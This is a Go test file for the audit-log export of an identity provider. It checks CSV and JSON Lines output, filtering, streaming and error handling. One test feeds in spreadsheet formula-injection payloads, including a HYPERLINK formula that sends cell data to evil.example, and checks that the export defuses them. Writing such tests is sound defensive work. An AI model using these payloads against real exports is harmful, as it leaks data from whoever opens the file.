package audit_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/sallyport-id/sallyport/provider/audit"
	"github.com/sallyport-id/sallyport/storage"
	"github.com/sallyport-id/sallyport/storage/sqlite"
	"github.com/sallyport-id/sallyport/storage/sqlite/sqlitetest"
)

func export(tb testing.TB, l *audit.Log, f audit.Filter, format audit.Format) string {
	tb.Helper()
	var out bytes.Buffer
	n, err := l.Export(tb.Context(), "acme", f, &out, format)
	if err != nil {
		tb.Fatal(err)
	}
	lines := strings.Count(out.String(), "\n")
	if format == audit.CSV {
		lines--
	}
	if n != lines {
		tb.Errorf("%d entries were written in %d lines", n, lines)
	}
	return out.String()
}

// table reads what was exported, by the names in its header.
func table(t *testing.T, text string) []map[string]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var list []map[string]string
	for _, row := range rows[1:] {
		cells := map[string]string{}
		for i, name := range rows[0] {
			cells[name] = row[i]
		}
		list = append(list, cells)
	}
	return list
}

// Both formats have all there is of an entry, under the names that entries have elsewhere.
func TestExportHasEveryField(t *testing.T) {
	s := sqlitetest.Open(t, sqlite.Options{})
	l := audit.New(s.Events, audit.Options{Now: func() time.Time { return may1 }})
	write(t, l, storage.Event{
		Action: "sign_in.factor", Outcome: "refused", Actor: "a1", User: "u1", Client: "c1", Factor: "totp", Rule: "Staff, <all>", Reason: "mis\"match",
		Reports: "r1 r2", Address: "192.0.2.1", Agent: "Fire; fox", Request: "q1",
	})
	kept, err := s.Events.Get(t.Context(), "acme", fmt.Sprintf("%020d", 1))
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(kept)
	if err != nil {
		t.Fatal(err)
	}
	var want, got map[string]any
	if err := json.Unmarshal(data, &want); err != nil {
		t.Fatal(err)
	}
	// How often a record was replaced is the store's.
	delete(want, "version")
	if err := json.Unmarshal([]byte(export(t, l, audit.Filter{}, audit.JSONLines)), &got); err != nil {
		t.Fatal(err)
	}
	cells := table(t, export(t, l, audit.Filter{}, audit.CSV))[0]
	if len(want) != 17 || len(got) != len(want) || len(cells) != len(want) {
		t.Errorf("there are %d fields, %d in JSON and %d in CSV", len(want), len(got), len(cells))
	}
	for name, v := range want {
		if name == "time" {
			v = "2026-05-01T00:00:00.000Z"
			got[name] = v
		}
		if got[name] != v || cells[name] != v && cells[name] != "'"+v.(string) {
			t.Errorf("%s: kept %v, in JSON %v, in CSV %v", name, v, got[name], cells[name])
		}
	}
}

// A stranger may call a browser what he likes. Nothing of it runs in the spreadsheet of whoever looks into the log, neither
// where commas part the cells nor where semicolons do.
func TestExportToSpreadsheetRunsNothing(t *testing.T) {
	agents := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"more")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r\n=1+1", "'=1+1", `x;=1+1;`, `x; =1+1;`, `x";"=1+1";`,
		`";=1+1;"`, `;;-1`, `Mozilla/5.0 (Windows NT 10.0; Win64; x64)`, "a=b", `x,=1+1`,
	}
	s := sqlitetest.Open(t, sqlite.Options{})
	l := audit.New(s.Events, audit.Options{})
	for _, a := range agents {
		write(t, l, storage.Event{Action: "sign_in.password", Outcome: "refused", User: a, Actor: a, Agent: a, Reason: a})
	}
	text := export(t, l, audit.Filter{}, audit.CSV)
	rows := table(t, text)
	if len(rows) != len(agents) {
		t.Fatalf("%d rows of %d entries", len(rows), len(agents))
	}
	for i, row := range rows {
		for name, cell := range row {
			if cell != "" && strings.IndexByte("=+-@\t\r\n", cell[0]) >= 0 {
				t.Errorf("%q: %s is run: %q", agents[i], name, cell)
			}
		}
	}
	for line := range strings.Lines(text) {
		for _, cell := range strings.Split(line, ";")[1:] {
			if cell = strings.TrimLeft(cell, ` "`); cell != "" && strings.IndexByte("=+-@", cell[0]) >= 0 {
				t.Errorf("between semicolons %q is run", cell)
			}
		}
	}
	// What harms nothing is left as it is.
	for i, want := range map[int]string{12: agents[12], 13: agents[13], 14: agents[14], 6: "''=1+1", 1: "'+1+1"} {
		if rows[i]["agent"] != want {
			t.Errorf("%q became %q", want, rows[i]["agent"])
		}
	}
}

func TestExportIsWhatFindFindsTheOtherWayRound(t *testing.T) {
	s := sqlitetest.Open(t, sqlite.Options{})
	l := audit.New(s.Events, audit.Options{})
	write(t, l, every(time.Minute, 2500)...)
	for name, f := range map[string]audit.Filter{
		"all":        {},
		"a user":     {User: "u3"},
		"from may 1": {From: may1, Until: may1.Add(time.Hour)},
		"a day":      {From: may1.Add(6 * time.Hour), Until: may1.Add(30 * time.Hour)},
		"both":       {User: "u3", From: may1.Add(6 * time.Hour), Until: may1.Add(30 * time.Hour)},
		"nothing":    {User: "u3", Outcome: "failed"},
		"past both":  {After: fmt.Sprintf("%020d", 7), Limit: 1, From: may1.Add(40 * time.Hour)},
	} {
		t.Run(name, func(t *testing.T) {
			want := f
			want.After, want.Limit = "", 0
			ids, _ := all(t, l, want)
			rows := table(t, export(t, l, f, audit.CSV))
			if len(rows) != len(ids) {
				t.Fatalf("exported %d, found %d", len(rows), len(ids))
			}
			for i, row := range rows {
				if row["id"] != ids[len(ids)-1-i] {
					t.Fatalf("line %d is %s, want %s", i, row["id"], ids[len(ids)-1-i])
				}
			}
		})
	}
}

// slow is somebody who reads slowly, while the log is written to.
type slow struct {
	bytes.Buffer
	flushes int
	at      func(flushes int) error
}

func (s *slow) FlushError() error {
	s.flushes++
	return s.at(s.flushes)
}

func TestExportHandsOnAsItGoesAndEnds(t *testing.T) {
	s := sqlitetest.Open(t, sqlite.Options{})
	l := audit.New(s.Events, audit.Options{})
	write(t, l, every(time.Minute, 3500)...)
	for _, format := range []audit.Format{audit.CSV, audit.JSONLines} {
		w := &slow{}
		lines := 0
		w.at = func(int) error {
			if n := bytes.Count(w.Bytes(), []byte("\n")); n > lines {
				lines = n
			} else {
				t.Errorf("%s: nothing was handed on", format)
			}
			// Others don't wait until the export is done.
			write(t, l, every(time.Minute, 100)...)
			return nil
		}
		newest := find(t, l, audit.Filter{Limit: 1}).Events[0]
		n, err := l.Export(t.Context(), "acme", audit.Filter{}, w, format)
		if err != nil || w.flushes != 1+n/1000 || fmt.Sprintf("%020d", n) != newest.ID {
			t.Errorf("%s: %d entries up to %s, flushed %d times, %v", format, n, newest.ID, w.flushes, err)
		}
	}
	// As a bufio.Writer does it, and an http.Flusher.
	var out bytes.Buffer
	if n, err := l.Export(t.Context(), "acme", audit.Filter{User: "u1"}, bufio.NewWriterSize(&out, 1<<20), audit.JSONLines); err != nil || bytes.Count(out.Bytes(), []byte("\n")) != n {
		t.Errorf("%d entries, %d bytes, %v", n, out.Len(), err)
	}
	flushed := flusher{&bytes.Buffer{}, new(int)}
	if _, err := l.Export(t.Context(), "acme", audit.Filter{}, flushed, audit.CSV); err != nil || *flushed.n < 4 {
		t.Errorf("flushed %d times, %v", *flushed.n, err)
	}
}

type flusher struct {
	io.Writer
	n *int
}

func (f flusher) Flush() { *f.n++ }

func TestExportThatBreaksOffIsAnError(t *testing.T) {
	s := sqlitetest.Open(t, sqlite.Options{})
	l := audit.New(s.Events, audit.Options{})
	write(t, l, every(time.Minute, 2500)...)
	for _, format := range []audit.Format{audit.CSV, audit.JSONLines} {
		ctx, cancel := context.WithCancel(t.Context())
		hangsUp := &slow{at: func(int) error { cancel(); return nil }}
		if n, err := l.Export(ctx, "acme", audit.Filter{}, hangsUp, format); !errors.Is(err, context.Canceled) || n != 1000 {
			t.Errorf("%s: after a hang-up: %d, %v", format, n, err)
		}
		closed := &slow{at: func(int) error { return io.ErrClosedPipe }}
		if n, err := l.Export(t.Context(), "acme", audit.Filter{}, closed, format); !errors.Is(err, io.ErrClosedPipe) || n != 1000 {
			t.Errorf("%s: into a closed pipe: %d, %v", format, n, err)
		}
		r, w := io.Pipe()
		if err := r.Close(); err != nil {
			t.Fatal(err)
		}
		if _, err := l.Export(t.Context(), "acme", audit.Filter{}, w, format); !errors.Is(err, io.ErrClosedPipe) {
			t.Errorf("%s: into a pipe without an end: %v", format, err)
		}
	}
	var out bytes.Buffer
	for _, c := range []struct {
		f      audit.Filter
		format audit.Format
		where  string
	}{{audit.Filter{}, "xlsx", "format"}, {audit.Filter{Address: "x"}, audit.CSV, "address"}} {
		_, err := l.Export(t.Context(), "acme", c.f, &out, c.format)
		var bad *audit.FilterError
		if !errors.As(err, &bad) || bad.Where != c.where || out.Len() > 0 {
			t.Errorf("%+v: %v, %q", c, err, &out)
		}
	}
}
